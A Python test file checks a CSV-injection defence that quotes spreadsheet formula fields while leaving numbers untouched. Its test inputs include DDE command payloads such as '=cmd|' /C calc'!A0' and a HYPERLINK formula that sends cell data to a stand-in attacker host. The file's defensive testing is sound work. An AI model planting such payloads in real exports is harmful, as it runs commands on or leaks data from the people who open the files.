"""CSV injection (issue 14): every CSV field a spreadsheet would execute gets a single-quote
prefix; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from types import SimpleNamespace

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from redd_audit.workbook.csv_safe import (
    FORMULA_TRIGGERS,
    is_plain_number,
    neutralise,
    neutralise_column,
    unsafe_fields,
)

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]
NUMBERS = ["-12.5", "-1e-05", "+3", "0", "-0.0", "1.5E+10", "-.5", "2524616"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_leading_text_is_prefixed(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_stay_numbers(text: str) -> None:
    assert is_plain_number(text)
    assert neutralise(text) == text


@pytest.mark.parametrize("text", ["TF", "project_area", "", "a=b", " =1", "'=1", "2021-03-01"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


@given(st.text(max_size=30))
def test_no_field_starts_a_formula_after_neutralising(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(FORMULA_TRIGGERS) or is_plain_number(out)
    assert neutralise(out) == out  # idempotent
    assert out in (text, "'" + text)  # nothing else changes: the raw value is recoverable


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_every_float_repr_is_kept(x: float) -> None:
    assert neutralise(repr(x)) == repr(x)


def test_column_and_unsafe_fields_agree() -> None:
    column = [*ATTACKS, *NUMBERS, "TF"]
    assert neutralise_column(column) == [neutralise(v) for v in column]
    assert unsafe_fields([column]) == ATTACKS
    assert unsafe_fields([neutralise_column(column)]) == []


def test_companion_csv_neutralises_its_fields() -> None:
    """The companion evidence file (the CSV the tool writes) holds no executable field."""
    from redd_audit.workbook.sheets.data_companion import companion_csv

    frame = pd.DataFrame(
        {
            "event_id": ["=cmd|' /C calc'!A0", "PA-1", "@SUM(1)"],
            "area_ha": [1.5, -2.0, 3.0],
            "driver": ["+x", "-y", "logging"],
        }
    )
    ctx = SimpleNamespace(
        project=SimpleNamespace(id="P-1"), start=dt.date(2021, 1, 1), end=dt.date(2021, 12, 31)
    )
    raw = [SimpleNamespace(key=k) for k in frame.columns]
    companion = companion_csv(ctx, "deforestation_events", raw, frame, flags=[0, 0, 0])  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(companion.content.decode("utf-8"))))
    assert unsafe_fields(rows) == []
    assert rows[1][0] == "'=cmd|' /C calc'!A0" and rows[3][0] == "'@SUM(1)"
    assert [r[1] for r in rows[1:]] == ["1.5", "-2.0", "3.0"]  # numbers untouched
